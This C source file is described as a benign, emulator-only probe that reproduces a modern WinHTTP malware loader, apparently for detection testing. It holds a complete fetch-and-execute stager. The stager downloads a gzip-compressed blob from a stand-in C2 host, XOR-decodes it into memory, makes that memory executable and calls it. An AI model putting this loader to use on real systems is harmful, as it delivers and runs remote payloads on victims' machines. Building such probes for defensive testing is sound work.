/*
 * loader.c - probe: a WinHTTP downloader as 2023-2025 loaders write one (benign, emulator-only;
 * see ../../lineage-common/common.h): WinHttpOpen through a named proxy, automatic gzip
 * decompression asked for (WinHttpSetOption WINHTTP_OPTION_DECOMPRESSION), the URL split with
 * WinHttpCrackUrl, HTTPS GET, the status read as a number (WINHTTP_QUERY_FLAG_NUMBER), the body
 * read in a WinHttpQueryDataAvailable / WinHttpReadData loop into a heap block grown by
 * HeapReAlloc -> 6-byte XOR into RW memory -> RX -> called. The C2 answers gzip-compressed.
 * Exit codes: 0 ok, 1 no marker, 2 network, 3 status, 4 memory.
 */
#include "common.h"
#include <winhttp.h>

#ifndef WINHTTP_OPTION_DECOMPRESSION
#define WINHTTP_OPTION_DECOMPRESSION 118
#define WINHTTP_DECOMPRESSION_FLAG_GZIP 0x1
#define WINHTTP_DECOMPRESSION_FLAG_DEFLATE 0x2
#endif

typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);

void Entry(void)
{
    static const unsigned char key[6] = {0x4b, 0x19, 0xe2, 0x07, 0x91, 0x3c};
    static const WCHAR url[] = L"https://cdn.example-update.net/assets/app.bin";
    static WCHAR host[128], path[256];
    static struct sc_ctx ctx;
    URL_COMPONENTS parts;
    HINTERNET session, connection, request;
    DWORD flags = WINHTTP_DECOMPRESSION_FLAG_GZIP | WINHTTP_DECOMPRESSION_FLAG_DEFLATE;
    DWORD status = 0, status_size = sizeof(status), available, got, total = 0, old, i;
    HANDLE heap = GetProcessHeap();
    unsigned char *body = 0, *grown, *mem;

    if (!marker_present())
        ExitProcess(1);
    for (i = 0; i < sizeof(parts); i++)
        ((char *)&parts)[i] = 0;
    parts.dwStructSize = sizeof(parts);
    parts.lpszHostName = host;
    parts.dwHostNameLength = sizeof(host) / sizeof(host[0]);
    parts.lpszUrlPath = path;
    parts.dwUrlPathLength = sizeof(path) / sizeof(path[0]);
    if (!WinHttpCrackUrl(url, 0, 0, &parts))
        ExitProcess(2);
    session = WinHttpOpen(L"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", WINHTTP_ACCESS_TYPE_NAMED_PROXY,
                          L"proxy.corp.example:8080", L"<local>", 0);
    if (!session || !WinHttpSetOption(session, WINHTTP_OPTION_DECOMPRESSION, &flags, sizeof(flags)))
        ExitProcess(2);
    connection = WinHttpConnect(session, host, parts.nPort, 0);
    request = connection ? WinHttpOpenRequest(connection, L"GET", path, 0, WINHTTP_NO_REFERER,
                                              WINHTTP_DEFAULT_ACCEPT_TYPES,
                                              parts.nScheme == INTERNET_SCHEME_HTTPS ? WINHTTP_FLAG_SECURE : 0)
                         : 0;
    if (!request || !WinHttpSendRequest(request, WINHTTP_NO_ADDITIONAL_HEADERS, 0, WINHTTP_NO_REQUEST_DATA, 0, 0, 0)
        || !WinHttpReceiveResponse(request, 0))
        ExitProcess(2);
    if (!WinHttpQueryHeaders(request, WINHTTP_QUERY_STATUS_CODE | WINHTTP_QUERY_FLAG_NUMBER, WINHTTP_HEADER_NAME_BY_INDEX,
                             &status, &status_size, WINHTTP_NO_HEADER_INDEX) || status != 200)
        ExitProcess(3);
    for (;;) {
        available = 0;
        if (!WinHttpQueryDataAvailable(request, &available) || available == 0)
            break;
        grown = body ? (unsigned char *)HeapReAlloc(heap, 0, body, total + available)
                     : (unsigned char *)HeapAlloc(heap, 0, available);
        if (!grown)
            ExitProcess(4);
        body = grown;
        got = 0;
        if (!WinHttpReadData(request, body + total, available, &got) || got == 0)
            break;
        total += got;
    }
    WinHttpCloseHandle(request);
    WinHttpCloseHandle(connection);
    WinHttpCloseHandle(session);
    if (total == 0)
        ExitProcess(2);
    mem = (unsigned char *)VirtualAlloc(0, total, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(4);
    for (i = 0; i < total; i++)
        mem[i] = body[i] ^ key[i % sizeof(key)];
    if (!VirtualProtect(mem, total, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_gzip.txt", "fetched gzip-compressed through WinHTTP\n");
    ((entry_t)(void *)mem)(&ctx);
    ExitProcess(0);
}
